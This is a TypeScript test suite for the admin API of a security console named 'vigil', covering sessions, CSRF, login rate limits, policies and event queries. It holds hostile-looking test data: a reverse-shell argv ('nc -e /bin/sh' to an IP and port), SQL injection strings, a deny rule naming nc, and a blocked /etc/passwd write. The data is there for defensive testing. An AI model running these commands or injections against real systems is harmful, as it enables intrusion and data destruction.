// The admin API with inject(): every route needs a session, every state change the CSRF token;
// setup, sign-in and its rate limit; policies with the CLI's diagnostics; event queries.

import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { MIGRATIONS, migrate } from "../../src/console/db/migrations.js";
import { openSqlite } from "../../src/console/db/sqlite.js";
import { compilePolicySource } from "../../src/policy/compile-source.js";
import { renderDiagnostic } from "../../src/policy/diagnostic.js";
import type { AdminSession } from "./helpers.js";
import { ADMIN, createToken, execEvent, register, sendEvents, sessionFrom, setupAdmin, sqliteConsole, tokenSecret } from "./helpers.js";
import { freshDir } from "../cli/helpers.js";
import { join } from "node:path";
import { parseListen, resolveConfig } from "../../src/console/config.js";
import { setupCode } from "../../src/console/repositories/admins.js";

type C = Awaited<ReturnType<typeof sqliteConsole>>;

const ADMIN_ROUTES: [string, string, unknown?][] = [
  ["GET", "/api/admin/session"],
  ["POST", "/api/admin/logout"],
  ["GET", "/api/admin/tokens"],
  ["POST", "/api/admin/tokens", { name: "t", group: "g" }],
  ["DELETE", "/api/admin/tokens/0123456789ab"],
  ["GET", "/api/admin/policies"],
  ["POST", "/api/admin/policies", { name: "p", source: "x" }],
  ["POST", "/api/admin/policies/validate", { source: "x" }],
  ["GET", "/api/admin/policies/p"],
  ["PUT", "/api/admin/policies/p", { source: "x" }],
  ["GET", "/api/admin/policies/p/versions/1"],
  ["POST", "/api/admin/policies/p/rollback", { version: 1 }],
  ["GET", "/api/admin/groups"],
  ["PUT", "/api/admin/groups/g/policy", { policy: "p" }],
  ["GET", "/api/admin/enforcers"],
  ["GET", "/api/admin/enforcers/e_0123456789abcdef0123/gaps"],
  ["GET", "/api/admin/events"],
  ["GET", "/api/admin/events/counts"],
  ["GET", "/api/admin/events/e_x/1"],
];

describe("console admin API (SQLite)", () => {
  let c: C;
  beforeEach(async () => {
    c = await sqliteConsole();
  });
  afterEach(async () => {
    await c.close();
  });

  it("migrations run on a fresh SQLite file, once", async () => {
    const db = openSqlite(join(freshDir(), "fresh.db"));
    expect(await migrate(db)).toEqual(MIGRATIONS.map((m) => m.version));
    expect(await migrate(db)).toEqual([]);
    const tables = await db.all<{ name: string }>("SELECT name FROM sqlite_master WHERE type = 'table' ORDER BY name");
    expect(tables.map((t) => t.name)).toEqual(expect.arrayContaining(["events", "webhooks", "alert_events", "alert_windows", "webhook_outbox", "api_tokens"]));
    await db.close();
  });

  it("every admin route needs a session", async () => {
    for (const [method, url, payload] of ADMIN_ROUTES) {
      const res = await c.app.inject({ method: method as "GET", url, ...(payload === undefined ? {} : { payload: payload as object }) });
      expect(res.statusCode, `${method} ${url}`).toBe(401);
      expect(res.json()).toMatchObject({ statusCode: 401 });
    }
  });

  it("every state change needs the CSRF token, and a cross-site Origin is refused", async () => {
    const s = await setupAdmin(c);
    for (const [method, url, payload] of ADMIN_ROUTES.filter(([m]) => m !== "GET")) {
      const res = await c.app.inject({ method: method as "POST", url, headers: { cookie: s.cookie }, ...(payload === undefined ? {} : { payload: payload as object }) });
      expect(res.statusCode, `${method} ${url}`).toBe(403);
      const wrong = await c.app.inject({ method: method as "POST", url, headers: { cookie: s.cookie, "x-csrf-token": `${s.csrf}x` }, ...(payload === undefined ? {} : { payload: payload as object }) });
      expect(wrong.statusCode, `${method} ${url}`).toBe(403);
    }
    const evil = await c.app.inject({ method: "POST", url: "/api/admin/tokens", headers: { ...s.headers, origin: "https://evil.example" }, payload: { name: "t", group: "g" } });
    expect(evil.statusCode).toBe(403);
    // A form post (text/plain) is not accepted at all.
    const form = await c.app.inject({ method: "POST", url: "/api/admin/login", headers: { "content-type": "text/plain" }, payload: "username=admin" });
    expect(form.statusCode).toBe(415);
    const tokens = await c.app.inject({ method: "GET", url: "/api/admin/tokens", headers: s.headers });
    expect(tokens.json().tokens).toEqual([]);
  });

  it("first-run setup needs the setup code, happens once, and sets a strict session cookie", async () => {
    expect((await c.app.inject({ method: "GET", url: "/api/admin/setup" })).json()).toEqual({ needed: true });
    const wrong = await c.app.inject({ method: "POST", url: "/api/admin/setup", payload: { ...ADMIN, setupCode: "nope" } });
    expect(wrong.statusCode).toBe(403);
    const short = await c.app.inject({ method: "POST", url: "/api/admin/setup", payload: { ...ADMIN, password: "short", setupCode: await setupCode(c.db) } });
    expect(short.statusCode).toBe(400);
    const ok = await c.app.inject({ method: "POST", url: "/api/admin/setup", payload: { ...ADMIN, setupCode: await setupCode(c.db) } });
    expect(ok.statusCode).toBe(201);
    expect(String(ok.headers["set-cookie"])).toMatch(/^vigil_session=[A-Za-z0-9_-]{43}; Path=\/; HttpOnly; SameSite=Strict; Max-Age=\d+$/);
    const again = await c.app.inject({ method: "POST", url: "/api/admin/setup", payload: { ...ADMIN, setupCode: "x" } });
    expect(again.statusCode).toBe(409);
    const stored = await c.db.get<{ password_hash: string }>("SELECT password_hash FROM admins");
    expect(stored?.password_hash).toMatch(/^scrypt\$16384\$8\$1\$/);
  });

  it("marks the cookie Secure behind TLS", async () => {
    const secure = await sqliteConsole({ secureCookies: true });
    try {
      const res = await secure.app.inject({ method: "POST", url: "/api/admin/setup", payload: { ...ADMIN, setupCode: await setupCode(secure.db) } });
      expect(String(res.headers["set-cookie"])).toMatch(/; Secure$/);
    } finally {
      await secure.close();
    }
  });

  it("signs in and out; rate-limits failed sign-ins", async () => {
    await setupAdmin(c);
    for (let i = 0; i < 5; i++) {
      const bad = await c.app.inject({ method: "POST", url: "/api/admin/login", payload: { username: "admin", password: `wrong${i}` } });
      expect(bad.statusCode).toBe(401);
    }
    const limited = await c.app.inject({ method: "POST", url: "/api/admin/login", payload: ADMIN });
    expect(limited.statusCode).toBe(429);
    expect(limited.headers["retry-after"]).toBe("900");
    await c.db.run("DELETE FROM login_failures");
    const ok = await c.app.inject({ method: "POST", url: "/api/admin/login", payload: ADMIN });
    expect(ok.statusCode).toBe(200);
    const s = sessionFrom(ok);
    expect((await c.app.inject({ method: "POST", url: "/api/admin/logout", headers: s.headers })).statusCode).toBe(204);
    expect((await c.app.inject({ method: "GET", url: "/api/admin/session", headers: s.headers })).statusCode).toBe(401);
    const unknown = await c.app.inject({ method: "POST", url: "/api/admin/login", payload: { username: "nobody", password: "x" } });
    expect(unknown.statusCode).toBe(401);
    expect(unknown.json().error).toBe("wrong username or password");
  });

  it("tokens: created once in clear, listed without the secret, stored hashed, revoked", async () => {
    const s = await setupAdmin(c);
    const t = await createToken(c, s, "payments-prod");
    expect(t.token).toMatch(/^vgt_[0-9a-f]{12}_[A-Za-z0-9_-]{43}$/);
    const list = await c.app.inject({ method: "GET", url: "/api/admin/tokens", headers: s.headers });
    expect(JSON.stringify(list.json())).not.toContain(tokenSecret(t.token));
    const raw = await c.db.all<{ secret_hash: string }>("SELECT secret_hash FROM enrollment_tokens");
    expect(raw[0]?.secret_hash).toMatch(/^[0-9a-f]{64}$/);
    expect((await c.app.inject({ method: "DELETE", url: `/api/admin/tokens/${t.id}`, headers: s.headers })).statusCode).toBe(200);
    expect((await c.app.inject({ method: "DELETE", url: `/api/admin/tokens/${t.id}`, headers: s.headers })).statusCode).toBe(409);
    expect((await c.app.inject({ method: "DELETE", url: "/api/admin/tokens/000000000000", headers: s.headers })).statusCode).toBe(404);
    const badGroup = await c.app.inject({ method: "POST", url: "/api/admin/tokens", headers: s.headers, payload: { name: "x", group: "../etc" } });
    expect(badGroup.statusCode).toBe(400);
    expect(badGroup.json().details[0].field).toBe("body/group");
  });

  it("policy validation gives exactly the CLI's diagnostics; saving a policy with errors is refused", async () => {
    const s = await setupAdmin(c);
    const source = "apiVersion: vigil/v1\nkind: Policy\nspec:\n  exec:\n    deny: [usr/bin/nc]\n";
    const res = await c.app.inject({ method: "POST", url: "/api/admin/policies/validate", headers: s.headers, payload: { name: "web", source } });
    expect(res.statusCode).toBe(200);
    const cli = compilePolicySource(source, "web.yaml");
    expect(res.json().ok).toBe(false);
    expect(res.json().diagnostics.map((d: { rendered: string }) => d.rendered)).toEqual(cli.diagnostics.map((d) => renderDiagnostic(d, source)));
    expect(res.json().diagnostics[0].rendered).toMatch(/^web\.yaml:5:\d+: error: spec\.exec\.deny\[0\]/);
    const save = await c.app.inject({ method: "POST", url: "/api/admin/policies", headers: s.headers, payload: { name: "web", source } });
    expect(save.statusCode).toBe(422);
    expect((await c.app.inject({ method: "GET", url: "/api/admin/policies", headers: s.headers })).json().policies).toEqual([]);
    const compiled = await c.app.inject({ method: "POST", url: "/api/admin/policies/validate", headers: s.headers, payload: { source: "vigil-policy 1\n" } });
    expect(compiled.json().ok).toBe(false);
  });

  it("policies: create, conflict, edit, history, versions, rollback, assign and unassign", async () => {
    const s = await setupAdmin(c);
    const v1 = "apiVersion: vigil/v1\nkind: Policy\nspec:\n  exec:\n    allow: [\"/bin/*\"]\n";
    const v2 = "apiVersion: vigil/v1\nkind: Policy\nspec:\n  exec:\n    allow: [\"/bin/*\", \"/usr/bin/*\"]\n";
    expect((await c.app.inject({ method: "POST", url: "/api/admin/policies", headers: s.headers, payload: { name: "web", source: v1 } })).statusCode).toBe(201);
    expect((await c.app.inject({ method: "POST", url: "/api/admin/policies", headers: s.headers, payload: { name: "web", source: v1 } })).statusCode).toBe(409);
    expect((await c.app.inject({ method: "PUT", url: "/api/admin/policies/web", headers: s.headers, payload: { source: v2, comment: "usr" } })).json().version).toBe(2);
    expect((await c.app.inject({ method: "PUT", url: "/api/admin/policies/nope", headers: s.headers, payload: { source: v2 } })).statusCode).toBe(404);
    const rb = await c.app.inject({ method: "POST", url: "/api/admin/policies/web/rollback", headers: s.headers, payload: { version: 1 } });
    expect(rb.json()).toMatchObject({ version: 3, source: v1, comment: "rollback to version 1", author: "admin" });
    const got = (await c.app.inject({ method: "GET", url: "/api/admin/policies/web", headers: s.headers })).json();
    expect(got.history.map((h: { version: number }) => h.version)).toEqual([3, 2, 1]);
    expect((await c.app.inject({ method: "GET", url: "/api/admin/policies/web/versions/2", headers: s.headers })).json().source).toBe(v2);
    expect((await c.app.inject({ method: "GET", url: "/api/admin/policies/web/versions/9", headers: s.headers })).statusCode).toBe(404);
    expect((await c.app.inject({ method: "POST", url: "/api/admin/policies/web/rollback", headers: s.headers, payload: { version: 9 } })).statusCode).toBe(404);
    expect((await c.app.inject({ method: "PUT", url: "/api/admin/groups/web-prod/policy", headers: s.headers, payload: { policy: "nope" } })).statusCode).toBe(404);
    expect((await c.app.inject({ method: "PUT", url: "/api/admin/groups/web-prod/policy", headers: s.headers, payload: { policy: "web" } })).statusCode).toBe(200);
    expect((await c.app.inject({ method: "GET", url: "/api/admin/groups", headers: s.headers })).json().groups).toEqual([{ group: "web-prod", policy: "web" }]);
    expect((await c.app.inject({ method: "GET", url: "/api/admin/policies", headers: s.headers })).json().policies[0]).toMatchObject({ name: "web", currentVersion: 3, groups: ["web-prod"] });
    expect((await c.app.inject({ method: "PUT", url: "/api/admin/groups/web-prod/policy", headers: s.headers, payload: { policy: null } })).statusCode).toBe(200);
    expect((await c.app.inject({ method: "POST", url: "/api/admin/policies", headers: s.headers, payload: { name: "bad name!", source: v1 } })).statusCode).toBe(400);
    expect((await c.app.inject({ method: "POST", url: "/api/admin/policies", headers: s.headers, payload: { name: "x", source: v1, extra: 1 } })).statusCode).toBe(400);
  });

  it("events: filters, counts per bucket, detail with ancestry; filters are data, never SQL", async () => {
    const s = await setupAdmin(c);
    const { token } = await createToken(c, s, "web");
    const e = await register(c, token);
    await sendEvents(c, e.enforcerKey, 1, [
      execEvent({ time: "2026-12-04T10:00:00.000Z", pid: 1, ppid: 0, exe: "/bin/sh", argv: ["sh", "-c", "start"], verdict: "allowed", rule: "exec.allow[0]" }),
      execEvent({ time: "2026-12-04T10:00:01.000Z", pid: 7, ppid: 1, exe: "/bin/bash", argv: ["bash"], verdict: "allowed", rule: "exec.allow[0]" }),
      execEvent({ time: "2026-12-04T10:00:30.000Z", pid: 9, ppid: 7 }),
      execEvent({ time: "2026-12-04T10:01:10.000Z", pid: 10, ppid: 7, verdict: "alert" }),
      { vigil: 1, time: "2026-12-04T10:02:00.000Z", kind: "file", verdict: "blocked", rule: "files.readOnly[0]", pid: 7, ppid: 1, uid: 0, exe: "/bin/bash", argv: ["bash"], argvTruncated: false, cwd: "/", path: "/etc/passwd", operation: "open-write", pattern: "/etc/**" },
    ]);
    const q = async (query: string) => c.app.inject({ method: "GET", url: `/api/admin/events?${query}`, headers: s.headers });
    expect((await q("")).json().total).toBe(5);
    expect((await q("verdict=blocked")).json().total).toBe(2);
    expect((await q("verdict=blocked&kind=exec")).json().events[0].event.pid).toBe(9);
    expect((await q("workload=web")).json().total).toBe(5);
    expect((await q("workload=other")).json().total).toBe(0);
    expect((await q(`from=${Date.parse("2026-12-04T10:00:30.000Z")}&to=2026-12-04T10:01:30.000Z`)).json().total).toBe(2);
    expect((await q("limit=2")).json().events).toHaveLength(2);
    for (const attack of ["web' OR '1'='1", "web\"; DROP TABLE events; --", "%' OR 1=1 --"]) {
      const r = await q(`workload=${encodeURIComponent(attack)}`);
      expect(r.statusCode).toBe(200);
      expect(r.json().total).toBe(0);
    }
    expect((await q("verdict=blocked' OR '1'='1")).statusCode).toBe(400);
    expect((await q("from=yesterday")).statusCode).toBe(400);
    expect((await q("limit=100000")).statusCode).toBe(400);
    expect((await q("nope=1")).statusCode).toBe(400);
    expect((await q("")).json().total).toBe(5);

    const counts = await c.app.inject({ method: "GET", url: "/api/admin/events/counts?bucket=60000", headers: s.headers });
    expect(counts.json().buckets).toEqual([
      { start: Date.parse("2026-12-04T10:00:00.000Z"), blocked: 1, alert: 0, allowed: 2 },
      { start: Date.parse("2026-12-04T10:01:00.000Z"), blocked: 0, alert: 1, allowed: 0 },
      { start: Date.parse("2026-12-04T10:02:00.000Z"), blocked: 1, alert: 0, allowed: 0 },
    ]);

    const detail = await c.app.inject({ method: "GET", url: `/api/admin/events/${e.enforcerId}/3`, headers: s.headers });
    expect(detail.statusCode).toBe(200);
    expect(detail.json().event.argv).toEqual(["nc", "-e", "/bin/sh", "10.0.0.1", "4444"]);
    expect(detail.json().ancestry.map((a: { event: { pid: number; exe: string } }) => [a.event.pid, a.event.exe])).toEqual([[7, "/bin/bash"], [1, "/bin/sh"]]);
    expect((await c.app.inject({ method: "GET", url: `/api/admin/events/${e.enforcerId}/99`, headers: s.headers })).statusCode).toBe(404);
  });

  it("health, readiness, metrics, the page and its security headers; unknown routes are clear 404s", async () => {
    expect((await c.app.inject({ method: "GET", url: "/healthz" })).json()).toEqual({ ok: true });
    expect((await c.app.inject({ method: "GET", url: "/readyz" })).statusCode).toBe(200);
    const metrics = await c.app.inject({ method: "GET", url: "/metrics" });
    expect(metrics.body).toMatch(/^vigil_console_enforcers_online 0$/m);
    const page = await c.app.inject({ method: "GET", url: "/" });
    expect(page.headers["content-type"]).toMatch(/^text\/html/);
    expect(page.headers["content-security-policy"]).toContain("script-src 'self'");
    expect(page.headers["x-frame-options"]).toBe("DENY");
    expect((await c.app.inject({ method: "GET", url: "/app.js" })).body).not.toContain("innerHTML");
    const missing = await c.app.inject({ method: "GET", url: "/nope" });
    expect(missing.statusCode).toBe(404);
    expect(missing.json()).toEqual({ error: "no route GET /nope", statusCode: 404 });
  });

  it("hides the internals of a 5xx", async () => {
    await c.db.run("DROP TABLE login_failures");
    await setupCode(c.db);
    const res = await c.app.inject({ method: "POST", url: "/api/admin/login", payload: { username: "a", password: "b" } });
    expect(res.statusCode).toBe(500);
    expect(res.json()).toEqual({ error: "internal error", statusCode: 500 });
  });
});

describe("console settings", () => {
  it("parses listen addresses", () => {
    expect(parseListen("127.0.0.1:8080")).toEqual({ host: "127.0.0.1", port: 8080 });
    expect(parseListen(":9000")).toEqual({ host: "0.0.0.0", port: 9000 });
    expect(parseListen("[::1]:8443")).toEqual({ host: "::1", port: 8443 });
    expect(parseListen("8080")).toEqual({ host: "0.0.0.0", port: 8080 });
    expect(() => parseListen("host:99999")).toThrow(/HOST:PORT/);
  });

  it("retention days and the webhook URL: flag over environment over default, refused clearly when wrong", () => {
    expect(resolveConfig({}, {})).toMatchObject({ retentionDays: 30, webhookUrl: null });
    expect(resolveConfig({}, { VIGIL_CONSOLE_RETENTION_DAYS: "7" }).retentionDays).toBe(7);
    expect(resolveConfig({ retentionDays: "0" }, { VIGIL_CONSOLE_RETENTION_DAYS: "7" }).retentionDays).toBe(0);
    expect(() => resolveConfig({ retentionDays: "a week" }, {})).toThrow("--retention-days a week: expected a whole number of days (0 keeps events forever)");
    expect(() => resolveConfig({}, { VIGIL_CONSOLE_RETENTION_DAYS: "-1" })).toThrow(/^VIGIL_CONSOLE_RETENTION_DAYS -1: expected a whole number/);
    expect(resolveConfig({}, { VIGIL_CONSOLE_WEBHOOK_URL: "https://hooks.slack.com/services/T/B/x" }).webhookUrl).toBe("https://hooks.slack.com/services/T/B/x");
    expect(() => resolveConfig({}, { VIGIL_CONSOLE_WEBHOOK_URL: "smtp://mail" })).toThrow("VIGIL_CONSOLE_WEBHOOK_URL: webhook URL: must be https:// or http://; received smtp://");
  });
});
